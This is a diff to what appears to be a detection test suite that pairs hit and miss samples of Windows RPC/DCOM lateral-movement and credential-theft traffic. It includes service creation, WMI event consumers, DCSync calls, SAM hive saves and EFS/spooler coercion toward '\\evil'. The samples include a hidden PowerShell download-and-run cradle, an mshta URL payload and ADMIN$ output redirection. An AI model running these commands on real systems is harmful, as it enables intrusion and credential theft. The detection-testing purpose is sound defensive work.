@@ -4,6 +4,7 @@ import {
   ACTIVATOR,
   ATSVC,
   all,
+  atJob,
   BACKUP_KEY,
   boundAs,
   calls,
@@ -15,10 +16,12 @@ import {
   EVENTLOG,
   EVENTLOG6,
   file,
+  hive,
   IMPACKET,
   IPID,
   inNamespace,
   invoked,
+  job,
   LOGIN_CLASS,
   LSARPC,
   later,
@@ -32,6 +35,7 @@ import {
   OLD_ACTIVATOR,
   OUTPUT,
   OWN,
+  otherCommand,
   PROGRAM,
   printer,
   REM_UNKNOWN,
@@ -53,16 +57,19 @@ import {
   syns,
   TASKS,
   THIRD,
+  task,
   times,
   toEach,
+  unnamed,
   WBEM,
   WBEM_LOGIN,
   WINREG,
   WINSPOOL,
   WKSSVC,
+  wmiService,
   zeroChallenge,
 } from './scenes.js';
-import { change, create, open, remove, start } from './services.js';
+import { change, create, made, open, remove, start } from './services.js';
 import {
   activation,
   changeService,
@@ -87,26 +94,31 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
   ],
   9100010: [invoked('executeSHELLcommand'), invoked('Document')],
   9100011: [invoked('Run', ['calc.exe']), invoked('Run')],
-  9100012: [
-    calls(DISPATCH, { opnum: 6, object: IPID, stub: invoke(54, ['cmd.exe', '/c dir']) }),
-    calls(DISPATCH, { opnum: 6, object: IPID, stub: invoke(54, ['a', 'b']) }),
+  9100014: [
+    invoked('ExecuteShellCommand', ['cmd.exe', '', '/c whoami', '7']),
+    invoked('ExecuteShellCommand', ['calc.exe', '', '', '7']),
   ],
-  9100013: [
-    calls(DISPATCH, { opnum: 6, object: IPID, stub: invoke(0x6003_0001, ['cmd.exe', '/c dir']) }),
-    calls(DISPATCH, { opnum: 6, object: IPID, stub: invoke(0x6003_0002, ['cmd.exe', '/c dir']) }),
-  ],
+  9100015: [invoked('Run', ['mshta http://x/a.hta']), invoked('Run', ['calc.exe'])],
+  9100012: [unnamed(54, 'calc.exe', '', ''), unnamed(54, 'a', 'b')],
+  9100013: [unnamed(0x6003_0001, 'cmd', '/c dir'), unnamed(0x6003_0001, 'calc.exe', '')],
+  9100016: [unnamed(0x1234, 'c:\\x\\tool.exe'), unnamed(0x1234, 'http://example.com/')],
+  9100017: [invoked('CreateObject', ['Shell.Application']), invoked('CreateObject')],
   9100020: [
-    command('powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'),
-    command('powershell.exe -nop -file c:\\x.ps1'),
+    otherCommand('powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'),
+    otherCommand('powershell.exe -nop -file c:\\x.ps1'),
   ],
   9100021: [
-    command('cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1'),
-    command('cmd.exe /Q /c dir 1> \\\\files\\logs\\dir.txt'),
+    otherCommand('cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1'),
+    otherCommand('cmd.exe /Q /c dir 1> \\\\files\\logs\\dir.txt'),
   ],
-  9100022: [command('cmd.exe /C dir > %windir%\\Temp\\abcdefgh.tmp 2>&1'), command('cmd.exe /C dir')],
-  9100023: [service('%COMSPEC% /Q /c x.bat'), service('c:\\tools\\cmdservice.exe /c')],
-  9100024: [service('rundll32.exe c:\\x.dll,Run'), service('c:\\tools\\rundll32x.exe')],
-  9100025: [service('ipconfig /all'), service('c:\\tools\\ipconfiguration.exe')],
+  9100022: [otherCommand('cmd.exe /C dir > %windir%\\Temp\\abcdefgh.tmp 2>&1'), otherCommand('cmd.exe /C dir')],
+  9100023: [otherCommand('%COMSPEC% /Q /c x.bat'), otherCommand('c:\\tools\\cmdservice.exe /c')],
+  9100024: [otherCommand('rundll32.exe c:\\x.dll,Run'), otherCommand('c:\\tools\\rundll32x.exe')],
+  9100025: [otherCommand('ipconfig /all'), otherCommand('c:\\tools\\ipconfiguration.exe')],
+  9100026: [
+    otherCommand('powershell -Window Hidden -Command "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"'),
+    otherCommand('powershell -file c:\\x.ps1'),
+  ],
   9100030: [
     calls(WBEM, { opnum: 6, security: { ...IMPACKET, level: 'integrity' } }),
     calls(WBEM, { opnum: 6, security: { level: 'integrity', context: 1 } }),
@@ -132,6 +144,7 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
     calls(WBEM, { opnum: 24, stub: execMethod('win32_process', 'create') }),
     calls(WBEM, { opnum: 24, stub: execMethod('Win32_ProcessTrace', 'Create') }),
   ],
+  9100101: [command('cmd.exe /Q /c whoami'), command('c:\\tools\\agent.exe')],
   9100110: [calls(WBEM, sealed(24, 1160)), calls(WBEM, sealed(6, 1160))],
   9100121: [
     inNamespace('\\\\b\\root\\subscription', sealed(14), sealed(14)),
@@ -140,6 +153,13 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
   9100122: [
     calls(WBEM, { opnum: 14, stub: putInstance('CommandLineEventConsumer') }),
     calls(WBEM, { opnum: 14, stub: putInstance('LogFileEventConsumer') }),
+  ],
+  9100124: [
+    calls(WBEM, {
+      opnum: 14,
+      stub: putInstance('CommandLineEventConsumer', { CommandLineTemplate: 'cmd.exe /c x.bat' }),
+    }),
+    calls(WBEM, { opnum: 14, stub: putInstance('CommandLineEventConsumer', { CommandLineTemplate: 'c:\\x.exe' }) }),
   ],
   9100123: [
     inNamespace('//./root/subscription', sealed(14), sealed(14), sealed(16)),
@@ -159,6 +179,19 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
     calls(WBEM, { opnum: 24, stub: execMethod('Win32_Service', 'Create', { PathName: 'c:\\x.exe' }) }),
     calls(WBEM, { opnum: 24, stub: execMethod('Win32_Share', 'Create', { Path: 'c:\\x' }) }),
   ],
+  9100143: [wmiService('Create', 'cmd.exe /c whoami'), wmiService('Create', 'c:\\x.exe')],
+  9100145: [wmiService('Change', 'c:\\x.exe'), wmiService('StartService', 'c:\\x.exe')],
+  9100146: [wmiService('Change', 'cmd.exe /c whoami'), wmiService('Change', 'c:\\x.exe')],
+  9100150: [job('c:\\x.exe'), job('cmd.exe /c whoami')],
+  9100151: [job('cmd.exe /c whoami'), job('c:\\x.exe')],
+  9100152: [
+    calls(WBEM, { opnum: 24, stub: execMethod('PS_ScheduledTask', 'RegisterByXml', { Xml: '<Task/>' }) }),
+    calls(WBEM, { opnum: 24, stub: execMethod('PS_ScheduledTask', 'StartByPath', { Path: 'x' }) }),
+  ],
+  9100153: [
+    calls(WBEM, { opnum: 24, stub: execMethod('Win32_NTEventlogFile.Name="x"', 'ClearEventLog') }),
+    calls(WBEM, { opnum: 24, stub: execMethod('Win32_NTEventlogFile.Name="x"', 'BackupEventLog') }),
+  ],
   9100141: [
     calls(WBEM, { opnum: 24, stub: execMethod('Win32_Service.Name="x"', 'StartService') }),
     calls(WBEM, { opnum: 24, stub: execMethod('Win32_Service.Name="x"', 'InterrogateService') }),
@@ -166,13 +199,19 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
   9100142: [calls(WBEM, sealed(24, 424)), calls(WBEM, sealed(24, 912))],
   9100201: [calls(SVCCTL, sealed(45), sealed(19)), calls(SVCCTL, sealed(16), sealed(19))],
   9100203: [calls(SVCCTL, 12, 19, 2), [calls(SVCCTL, 12, 19), later(11, SVCCTL, 2)]],
+  9100206: [
+    calls(SVCCTL, create('c:\\x.exe', 7), start(7)),
+    calls(SVCCTL, create('c:\\x.exe', 7), open('y', 8), start(8)),
+  ],
+  9100207: [calls(SVCCTL, create('cmd.exe /c whoami', 7), start(7)), calls(SVCCTL, create('c:\\x.exe', 7), start(7))],
   9100205: [
     calls(SVCCTL, create('c:\\x.exe', 7), start(7), remove(7)),
     calls(SVCCTL, create('c:\\x.exe', 7), open('y', 8), start(7), remove(8)),
   ],
   9100204: [calls(SVCCTL, 16, 19), calls(SVCCTL, 12, 19)],
   9100210: [service('c:\\x.exe'), calls(SVCCTL, { opnum: 12, stub: createService('c:\\x.exe'), security: SEALED })],
-  9100211: [service('%COMSPEC% /Q /c whoami'), service('c:\\program files\\agent\\agent.exe')],
+  9100211: [service('c:\\users\\public\\agent.exe'), service('c:\\program files\\agent\\agent.exe')],
+  9100213: [service('%COMSPEC% /Q /c whoami'), service('c:\\users\\public\\agent.exe')],
   9100212: [
     service('cmd.exe /Q /c dir 1> \\\\127.0.0.1\\ADMIN$\\__1 2>&1'),
     service('cmd.exe /Q /c dir 1> \\\\files\\logs\\dir.txt'),
@@ -180,6 +219,10 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
   9100220: [
     calls(SVCCTL, { opnum: 11, stub: changeService('c:\\x.exe') }),
     calls(SVCCTL, { opnum: 11, stub: Buffer.concat([HANDLE, u32(16, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)]) }),
+  ],
+  9100229: [
+    calls(SVCCTL, { opnum: 11, stub: changeService('cmd.exe /c whoami') }),
+    calls(SVCCTL, { opnum: 11, stub: changeService('c:\\x.exe') }),
   ],
   9100222: [calls(SVCCTL, sealed(11), sealed(19)), calls(SVCCTL, sealed(19), sealed(11))],
   9100223: [calls(SVCCTL, 11, 19, 11), calls(SVCCTL, 11, 11, 19)],
@@ -202,9 +245,14 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
   9100226: [calls(SVCCTL, sealed(1)), calls(SVCCTL, 1)],
   9100230: [calls(TASKS, sealed(1)), calls(TASKS, sealed(0), sealed(7))],
   9100231: [calls(ATSVC, 0), calls(ATSVC, 2)],
+  9100234: [atJob('cmd.exe /c whoami'), atJob('c:\\x.exe')],
+  9100235: [task('cmd.exe', '/c dir &gt; c:\\x.txt 2&gt;&amp;1'), task('cmd.exe', '/c dir')],
+  9100236: [task('cmd.exe', '/c dir'), task('c:\\x.exe', '')],
   9100233: [calls(TASKS, 1, 12, 13), calls(TASKS, 12, 13)],
   9100302: [calls(DRSUAPI, ...[0, 16, 12, 3].map((opnum) => sealed(opnum))), calls(DRSUAPI, sealed(0), sealed(3))],
   9100303: [calls(DRSUAPI, { opnum: 3, security: IMPACKET }), calls(DRSUAPI, sealed(3))],
+  9100305: [calls(DRSUAPI, sealed(0), sealed(12), sealed(3)), calls(DRSUAPI, sealed(0), sealed(3), sealed(12))],
+  9100306: [calls(DRSUAPI, sealed(0), sealed(3), sealed(1)), calls(DRSUAPI, sealed(0), sealed(8), sealed(1))],
   9100311: [calls(DRSUAPI, sealed(5), sealed(6)), calls(DRSUAPI, sealed(6), sealed(5))],
   9100320: [calls(NETLOGON, zeroChallenge(0)), calls(NETLOGON, zeroChallenge(7))],
   9100321: [
@@ -226,6 +274,11 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
     calls(BACKUP_KEY, { opnum: 0, stub: Buffer.alloc(452), security: SEALED }),
     calls(BACKUP_KEY, { opnum: 0, stub: Buffer.alloc(84), security: SEALED }),
   ],
+  9100334: [
+    calls(WINREG, ...hive('SAM'), { opnum: 31, stub: Buffer.concat([made(8), unicode('x.tmp')]) }),
+    calls(WINREG, ...hive('SOFTWARE'), { opnum: 31, stub: Buffer.concat([made(8), unicode('x.tmp')]) }),
+  ],
+  9100335: [calls(WINREG, sealed(31)), calls(WINREG, sealed(17))],
   9100400: [
     calls(EFS, { opnum: 0, stub: Buffer.concat([wide(`${THIRD}\\share\\x`), u32(0)]) }),
     calls(EFS, { opnum: 0, stub: Buffer.concat([wide(`${OWN}\\share\\x`), u32(0)]) }),
@@ -243,6 +296,7 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
     calls(EFS, { opnum: 13, stub: Buffer.concat([wide('c:\\x'), wide('\\\\evil\\share\\x'), u32(1)]) }),
     calls(EFS, { opnum: 13, stub: Buffer.concat([wide('c:\\x'), wide('c:\\y'), u32(1)]) }),
   ],
+  9100419: [calls(SPOOLSS, { ...printer(THIRD), security: SEALED }), calls(SPOOLSS, sealed(64))],
   9100402: [calls(SPOOLSS, printer(THIRD)), calls(SPOOLSS, printer(OWN))],
   9100414: [calls(SPOOLSS, printer('\\\\evil')), calls(SPOOLSS, printer('ws1'))],
   9100403: [calls(NETDFS, root('10.0.0.9')), calls(NETDFS, root('10.0.0.2'))],
@@ -296,6 +350,10 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
   9100523: [calls(WINREG, sealed(4), sealed(9)), calls(WINREG, sealed(2), sealed(9))],
   9100524: [toEach(10, SRVSVC, 12), [...toEach(9, SRVSVC, 12), ...toEach(9, SRVSVC, 12)]],
   9100525: [toEach(10, SAMR, 33), toEach(9, SAMR, 33)],
+  9100526: [toEach(10, WINREG, sealed(4), sealed(9)), toEach(10, WINREG, sealed(2), sealed(9))],
+  9100527: [toEach(10, SAMR, 13), toEach(9, SAMR, 13)],
+  9100528: [toEach(10, SRVSVC, 15), [...toEach(9, SRVSVC, 15), ...toEach(9, SRVSVC, 15)]],
+  9100536: [toEach(10, SVCCTL, 15, 0), toEach(10, SVCCTL, 15, 42, 0)],
   9100535: [calls(SVCCTL, 15, 42, 0), calls(SVCCTL, 15, 42, 16, 19, 0)],
   9100532: [calls(SVCCTL, 15, 0), calls(SVCCTL, 15, 16, 0)],
   9100540: [calls(EVENTLOG, 0), calls(EVENTLOG, 7)],
@@ -318,7 +376,15 @@ export const CASES: Readonly<Record<number, readonly [hit: Scene, miss: Scene]>>
   ],
   9100604: [
     [file(random()), later(30, SVCCTL, sealed(19))],
-    [file(random()), later(601, SVCCTL, sealed(19))],
+    [file(random()), later(7201, SVCCTL, sealed(19))],
+  ],
+  9100617: [
+    [file(random()), later(30, DISPATCH, { opnum: 6, object: IPID, stub: invoke(54, ['calc.exe', '', '']) })],
+    [file(random()), later(30, DISPATCH, { opnum: 6, object: IPID, stub: invoke(54, ['a', 'b', '']) })],
+  ],
+  9100618: [
+    [file(random()), later(30, DISPATCH, sealed(6))],
+    [file(random()), later(30, DISPATCH, sealed(5))],
   ],
   9100607: [
     [
